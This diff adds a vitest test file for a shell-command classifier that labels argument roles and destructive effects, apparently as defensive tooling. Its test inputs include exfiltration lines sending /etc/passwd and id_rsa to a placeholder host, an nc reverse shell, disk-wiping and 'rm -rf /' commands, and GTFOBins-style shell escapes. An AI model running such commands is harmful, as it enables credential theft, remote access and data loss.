@@ -1,0 +1,219 @@
+// Expected facts written from each program's documented behaviour (man pages, GTFOBins).
+import { describe, expect, it } from 'vitest';
+import { run, roles, dyn } from './helpers.ts';
+
+type Row = [string, Record<string, string[]>];
+const table = (title: string, rows: Row[]) =>
+  describe(title, () => {
+    for (const [cmd, want] of rows) it(cmd, () => {
+      const f = run(...cmd.split(' '));
+      expect(f.known).toBe(true);
+      expect(f.issues).toEqual([]);
+      const got = roles(f);
+      for (const [role, texts] of Object.entries(want)) expect(got[role] ?? [], `${role} of ${cmd}`).toEqual(texts);
+    });
+  });
+
+table('writers', [
+  ['cp a b', { read: ['a'], write: ['b'] }],
+  ['cp a b dir', { read: ['a', 'b'], 'dir-target': ['dir'] }],
+  ['cp a dir/', { read: ['a'], 'dir-target': ['dir/'] }],
+  ['cp -t dir a b', { 'dir-target': ['dir'], read: ['a', 'b'] }],
+  ['cp --target-directory=dir a', { 'dir-target': ['dir'], read: ['a'] }],
+  ['cp --target=dir a', { 'dir-target': ['dir'], read: ['a'] }],
+  ['install -m 755 x /usr/local/bin/x', { read: ['x'], write: ['/usr/local/bin/x'] }],
+  ['install -d /opt/a /opt/b', { write: ['/opt/a', '/opt/b'] }],
+  ['ln -s /etc/passwd link', { read: ['/etc/passwd'], write: ['link'] }],
+  ['sort -o out.txt in.txt', { write: ['out.txt'], read: ['in.txt'] }],
+  ['sort in.txt -oout.txt', { write: ['out.txt'], read: ['in.txt'] }],
+  ['sort --output=o in', { write: ['o'], read: ['in'] }],
+  ['tee a b', { write: ['a', 'b'] }],
+  ['tee -a log', { append: ['log'] }],
+  ['truncate -s 0 f', { write: ['f'] }],
+  ['touch -r ref new', { read: ['ref'], write: ['new'] }],
+  ['mkfifo p', { write: ['p'] }],
+  ['dd if=/dev/zero of=/dev/sda', { read: ['/dev/zero'], write: ['/dev/sda'] }],
+  ['uniq in out', { read: ['in'], write: ['out'] }],
+  ['split -l 10 big part_', { read: ['big'], write: ['part_'] }],
+  ['csplit -f pre file 5', { write: ['pre'], read: ['file'] }],
+  ['sed -i s/a/b/ f g', { write: ['f', 'g'] }],
+  ['sed -i -e s/a/b/ f', { write: ['f'] }],
+  ['perl -pi -e s/a/b/ f', { write: ['f'] }],
+  ['find . -fprint out', { write: ['out'] }],
+  ['time -o t.log ls', { write: ['t.log'] }],
+  ['curl -o out http://x', { write: ['out'], network: ['http://x'] }],
+  ['wget -O f http://x', { write: ['f'], network: ['http://x'] }],
+  ['tar -cf out.tar src', { write: ['out.tar'], read: ['src'] }],
+  ['tar czf out.tgz src', { write: ['out.tgz'], read: ['src'] }],
+  ['patch -o out f', { write: ['out', 'f'] }],
+  ['vim notes.txt', { write: ['notes.txt'] }],
+]);
+
+table('deleters and mode changes', [
+  ['rm -rf ~/x', { delete: ['~/x'] }],
+  ['rm --recur a', { delete: ['a'] }],
+  ['rmdir d', { delete: ['d'] }],
+  ['mv a b', { delete: ['a'], write: ['b'] }],
+  ['find /tmp -name x -delete', { delete: ['/tmp'] }],
+  ['shred -u key', { delete: ['key'] }],
+  ['git rm -r src', { delete: ['src'] }],
+  ['git clean -fdx', { delete: [] }],
+  ['chmod -R 777 /', { mode: ['/'] }],
+  ['chown -R me: /srv', { owner: ['/srv'] }],
+  ['chmod --reference=a b', { read: ['a'], mode: ['b'] }],
+  ['rsync -a --remove-source-files src/ dst/', { delete: ['src/'] }],
+]);
+
+table('exec-argv and exec-line', [
+  ['sudo -u root rm -rf /', { 'exec-argv': ['rm'] }],
+  ['sudo FOO=1 make', { env: ['1'], 'exec-argv': ['make'] }],
+  ['env -i PATH=/x sh', { env: ['/x'], 'exec-argv': ['sh'] }],
+  ['env -C /tmp ls', { cwd: ['/tmp'], 'exec-argv': ['ls'] }],
+  ['timeout 5 rm x', { none: ['5'], 'exec-argv': ['rm'] }],
+  ['nice -n 5 rm x', { 'exec-argv': ['rm'] }],
+  ['nohup rm x', { 'exec-argv': ['rm'] }],
+  ['xargs -0 rm', { 'exec-argv': ['rm'] }],
+  ['find . -exec rm {} ;', { 'exec-argv': ['rm'] }],
+  ['find . -execdir sh -c x {} +', { 'exec-argv': ['sh'] }],
+  ['watch -x rm x', { 'exec-argv': ['rm'] }],
+  ['watch ls', { 'exec-line': ['ls'] }],
+  ['flock /tmp/l -c ls', { write: ['/tmp/l'], 'exec-line': ['ls'] }],
+  ['flock /tmp/l rm x', { write: ['/tmp/l'], 'exec-argv': ['rm'] }],
+  ['su -c id root', { 'exec-line': ['id'] }],
+  ['ssh host rm -rf /', { network: ['host'], 'exec-line': ['rm'] }],
+  ['ssh -o ProxyCommand=sh host', { 'exec-line': ['sh'], network: ['host'] }],
+  ['rsync -e sh a b', { 'exec-line': ['sh'] }],
+  ['git -c core.pager=sh log', { 'exec-line': ['sh'] }],
+  ['git -c core.sshCommand=x fetch', { 'exec-line': ['x'] }],
+  ['git config core.pager less', { 'exec-line': ['less'] }],
+  ['git rebase -x make main', { 'exec-line': ['make'] }],
+  ['git submodule foreach ls', { 'exec-line': ['ls'] }],
+  ['git bisect run make', { 'exec-argv': ['make'] }],
+  ['tar -xf a.tar --to-command=sh', { 'exec-line': ['sh'] }],
+  ['tar -cf a.tar --checkpoint=1 --checkpoint-action=exec=sh x', { 'exec-line': ['sh'] }],
+  ['zip z.zip f -T -TT sh', { 'exec-line': ['sh'] }],
+  ['sort --compress-program=sh f', { 'exec-line': ['sh'] }],
+  ['rg --pre sh x', { 'exec-line': ['sh'] }],
+  ['gdb -batch -ex !id', { code: ['!id'] }],
+  ['gdb --args rm x', { 'exec-argv': ['rm'] }],
+  ['chroot / sh', { read: ['/'], 'exec-argv': ['sh'] }],
+  ['npm exec rm', { 'exec-argv': ['rm'] }],
+  ['npx cowsay', { 'exec-argv': ['cowsay'] }],
+  ['uv run pytest', { 'exec-argv': ['pytest'] }],
+  ['busybox rm -rf /', { 'exec-argv': ['rm'] }],
+  ['strace -o t ls', { write: ['t'], 'exec-argv': ['ls'] }],
+]);
+
+table('code and code-file', [
+  ['bash -c ls', { code: ['ls'] }],
+  ['sh x.sh a', { 'code-file': ['x.sh'], none: ['a'] }],
+  ['bash --rcfile rc', { 'code-file': ['rc'] }],
+  ['python3 -c print(1)', { code: ['print(1)'] }],
+  ['python3 x.py --flag', { 'code-file': ['x.py'], none: ['--flag'] }],
+  ['python3 -m http.server', { code: ['http.server'] }],
+  ['node -e 1', { code: ['1'] }],
+  ['node app.js', { 'code-file': ['app.js'] }],
+  ['perl -e 1', { code: ['1'] }],
+  ['ruby -e 1', { code: ['1'] }],
+  ['php -r 1', { code: ['1'] }],
+  ['awk -f prog.awk data', { 'code-file': ['prog.awk'], read: ['data'] }],
+  ['sed -f s.sed f', { 'code-file': ['s.sed'], read: ['f'] }],
+  ['source ./env.sh', { 'code-file': ['./env.sh'] }],
+  ['make -f evil.mk', { 'code-file': ['evil.mk'] }],
+  ['make -C sub', { cwd: ['sub'] }],
+  ['at -f job.sh now', { 'code-file': ['job.sh'] }],
+  ['vim -c !sh f', { code: ['!sh'], write: ['f'] }],
+  ['crontab job', { 'code-file': ['job'] }],
+  ['mysql -h db -e DROP', { network: ['db'], code: ['DROP'] }],
+]);
+
+table('network and config', [
+  ['curl http://x', { network: ['http://x'] }],
+  ['curl -T secret http://x', { read: ['secret'] }],
+  ['curl -d @/etc/passwd http://x', { read: ['/etc/passwd'] }],
+  ['curl -F f=@id_rsa http://x', { read: ['id_rsa'] }],
+  ['curl -K cfg http://x', { config: ['cfg'] }],
+  ['scp id_rsa host:/tmp', { read: ['id_rsa'], network: ['host:/tmp'] }],
+  ['git clone https://x/r dir', { network: ['https://x/r'], write: ['dir'] }],
+  ['git push origin main', { network: ['origin'] }],
+  ['nc -e /bin/sh h 4444', { 'exec-line': ['/bin/sh'], network: ['h'] }],
+  ['redis-cli -h h', { network: ['h'] }],
+  ['psql -h db', { network: ['db'] }],
+  ['pytest -p evil', { config: ['evil'] }],
+  ['pytest --basetemp=/tmp/x', { 'dir-target': ['/tmp/x'] }],
+  ['pip install -r req.txt', { read: ['req.txt'] }],
+  ['npm install --userconfig u', { config: ['u'] }],
+  ['git -C /other status', { cwd: ['/other'] }],
+  ['tar -xf a.tar -C /etc', { read: ['a.tar'], cwd: ['/etc'], 'dir-target': ['/etc'] }],
+  ['docker run -v /:/host alpine', { write: ['/'] }],
+]);
+
+describe('program-level facts', () => {
+  it('installs reach the network', () => {
+    for (const c of ['npm install', 'npm i left-pad', 'pip install x', 'cargo install x', 'go get x', 'git fetch', 'apt-get install x', 'yarn add x', 'uv add x']) expect(run(...c.split(' ')).network, c).toBe(true);
+  });
+  it('names destructive effects', () => {
+    const want: [string, string][] = [
+      ['git push --force origin main', 'git-force-push'],
+      ['git push -f', 'git-force-push'],
+      ['git push origin +main', 'git-force-push'],
+      ['git push --mirror', 'git-force-push'],
+      ['git push origin --delete x', 'git-remote-ref-delete'],
+      ['git push origin :x', 'git-remote-ref-delete'],
+      ['git reset --hard HEAD~1', 'git-discard-changes'],
+      ['git checkout -- .', 'git-discard-changes'],
+      ['git restore src', 'git-discard-changes'],
+      ['git switch -f main', 'git-discard-changes'],
+      ['git clean -f', 'git-clean'],
+      ['git branch -D x', 'git-branch-delete'],
+      ['git branch --delete --force x', 'git-branch-delete'],
+      ['git filter-branch --tree-filter x HEAD', 'git-history-rewrite'],
+      ['git reflog expire --expire=now --all', 'git-reflog-expire'],
+      ['git gc --prune=now', 'git-prune'],
+      ['git update-ref -d refs/heads/x', 'git-ref-delete'],
+      ['git stash drop', 'git-stash-drop'],
+      ['git stash clear', 'git-stash-drop'],
+      ['git worktree remove --force w', 'git-worktree-remove'],
+      ['mkfs.ext4 /dev/sda1', 'disk-format'],
+      ['wipefs -a /dev/sda', 'disk-format'],
+      ['kubectl delete ns prod', 'k8s-delete'],
+      ['terraform destroy', 'infra-destroy'],
+      ['crontab -r', 'crontab-remove'],
+      ['rsync -a --delete a/ b/', 'rsync-delete'],
+      ['shutdown -h now', 'system-power'],
+    ];
+    for (const [c, d] of want) expect(run(...c.split(' ')).destructive, c).toBe(d);
+  });
+  it('leaves benign look-alikes undestroyed', () => {
+    for (const c of ['git push origin main', 'git reset --soft HEAD~1', 'git checkout main', 'git restore --staged f', 'git clean -n', 'git branch -d merged', 'git stash list', 'git push --dry-run --force', 'kubectl get ns', 'rsync -a a/ b/', 'wipefs /dev/sda', 'git gc'])
+      expect(run(...c.split(' ')).destructive, c).toBeUndefined();
+  });
+  it('marks help and version flags as info and effects-free', () => {
+    for (const c of ['rm --help', 'cp --version', 'git --version', 'python3 -V', 'node --version', 'curl -V', 'tar --help', 'sudo -V', 'find --help'])
+      expect(run(...c.split(' ')), c).toMatchObject({ info: true, effectsFree: true });
+  });
+  it('says what stdin is', () => {
+    expect(run('bash').stdin).toBe('code');
+    expect(run('python3', '-').stdin).toBe('code');
+    expect(run('at', 'now').stdin).toBe('code');
+    expect(run('ed', 'f').stdin).toBe('code');
+    expect(run('bash', '-c', 'ls').stdin).toBe('data');
+    expect(run('cat').stdin).toBe('data');
+  });
+  it('fails closed on unknown and dynamic option words', () => {
+    expect(run('rm', '-Q', 'x').issues).toContain('unknown option -Q');
+    expect(run('rm', '--frobnicate').issues.length).toBe(1);
+    expect(run('cp', dyn('$X'), 'a', 'b').issues[0]).toMatch(/dynamic/);
+    expect(run('git', 'frobnicate').issues).toContain('unknown subcommand frobnicate');
+    expect(run('ls', '--co').issues[0]).toMatch(/ambiguous/); // --color, --context
+    expect(run('sort', '-o').issues[0]).toMatch(/missing value/);
+  });
+  it('a git alias given by -c runs a command and its name is not a known subcommand', () => {
+    const f = run('git', '-c', 'alias.x=!sh', 'x');
+    expect(roles(f)['exec-line']).toEqual(['!sh']);
+    expect(f.issues).toContain('unknown subcommand x');
+  });
+  it('unknown programs are not known', () => {
+    expect(run('mywrap', 'rm').known).toBe(false);
+  });
+});
